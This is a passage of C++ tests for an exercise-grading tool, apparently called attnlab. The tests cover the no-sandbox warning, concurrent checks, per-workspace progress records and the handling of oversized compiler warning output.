  const pid_t pid = ::fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    if (::unshare(CLONE_NEWNS) != 0 || ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
        (fs::exists("/usr/bin/bwrap") && ::mount("/dev/null", "/usr/bin/bwrap", nullptr, MS_BIND, nullptr) != 0))
      ::_exit(200);
    const Result r = run(home, {"check", "attention"});
    ::_exit(r.code < 0 || r.code >= 200 ? 201 : r.code);
  }
  int status = 0;
  REQUIRE(::waitpid(pid, &status, 0) == pid);
  REQUIRE(WIFEXITED(status));
  if (WEXITSTATUS(status) == 200) ATTNLAB_SKIP("cannot hide /usr/bin/bwrap in a private mount namespace here");
  const std::string out = slurp(home.root / "stdout.txt"), err = slurp(home.root / "stderr.txt");
  INFO(out << err);
  CHECK(WEXITSTATUS(status) == 0);
  CHECK(err == "attnlab: warning: your code is compiled and graded without a sandbox, with your own rights: "
               "bubblewrap (bwrap) is not installed; install it with: sudo apt-get install bubblewrap\n");
  CHECK(contains(out, "PASSED"));
}

// ---- two commands at once, two workspaces ------------------------------------------------------------

TEST_CASE("eight checks of one exercise at once: all pass, and all eight are recorded") {
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  std::vector<pid_t> pids;
  for (int i = 0; i < 8; ++i)
    pids.push_back(spawn({"check", "attention"}, home, home.root / ("out" + std::to_string(i) + ".txt"),
                         home.root / ("err" + std::to_string(i) + ".txt")));
  for (int i = 0; i < 8; ++i) {
    int status = 0;
    REQUIRE(pids[i] > 0);
    waitpid(pids[i], &status, 0);
    const std::string out = slurp(home.root / ("out" + std::to_string(i) + ".txt"));
    INFO("check " << i << ":\n" << out << slurp(home.root / ("err" + std::to_string(i) + ".txt")));
    CHECK(WIFEXITED(status));
    CHECK(WEXITSTATUS(status) == 0);
    CHECK(contains(out, "PASSED"));
  }
  const auto state = nlohmann::json::parse(slurp(home.state()));
  CHECK(state["exercises"]["attention"]["checks"] == 8);
  CHECK(state["exercises"]["attention"]["status"] == "passed");
  // Each run built in a folder of its own; the latest stays as `last`, nothing else is left.
  std::vector<std::string> left;
  for (const auto& e : fs::directory_iterator(home.workspace() / ".build" / "attention"))
    left.push_back(e.path().filename().string());
  CHECK(left == std::vector<std::string>{"last"});
  CHECK(fs::exists(home.workspace() / ".build" / "attention" / "last" / "run.log"));
}

TEST_CASE("progress is kept per workspace: a failing check elsewhere leaves this one's pass alone") {
  Home home;
  write(home.learner("attention"), solution_of("05-weighted-sum", "attention"));
  REQUIRE(run(home, {"check", "attention"}).code == 0);
  const fs::path other = home.root / "ws2";
  fs::create_directories(other);
  write(other / "attention" / "exercise.cpp", attention_with("  return v;  // wrong on purpose\n"));
  const Result r = run(home, {"check", "attention", "--workspace", other.string()});
  CHECK(r.code == 1);
  const auto state = nlohmann::json::parse(slurp(home.state()));
  CHECK(state["exercises"]["attention"]["status"] == "passed");
  CHECK(state["exercises"]["attention"]["checks"] == 1);
  CHECK(contains(run(home, {"progress"}).out, "1 of "));
  const Result p = run(home, {"progress", "--workspace", other.string()});
  CHECK(contains(p.out, "0 of "));
  // The other workspace's file names its folder.
  std::error_code ec;
  bool found = false;
  for (const auto& e : fs::directory_iterator(home.root / "state" / "attnlab" / "workspaces", ec)) {
    if (e.path().extension() != ".json") continue;  // and its .lock
    const auto j = nlohmann::json::parse(slurp(e.path()));
    found = found || (j["workspace"] == other.string() && j["exercises"]["attention"]["status"] == "failing");
  }
  CHECK(found);
}

TEST_CASE("more than 16 MiB of compiler warnings is named as such, with the first ones") {
  Home home;
  std::string macros =
      "#define W1 _Pragma(\"GCC warning \\\"this warning repeats to fill the compiler's output with text text text\\\"\")\n";
  for (int i = 2; i <= 19; ++i)
    macros += "#define W" + std::to_string(i) + " W" + std::to_string(i - 1) + " W" + std::to_string(i - 1) + "\n";
  macros += "W19\n";
  write(home.learner("attention"), macros + solution_of("05-weighted-sum", "attention"));
  const Result r = run(home, {"check", "attention"});
  INFO(r.out << r.err);
  CHECK(r.code == 1);
  CHECK(contains(r.out, "The compiler printed more than 16 MiB of messages about your file"));
  CHECK(contains(r.out, "warning: this warning repeats"));
  CHECK(!contains(r.out, "does not compile"));
}
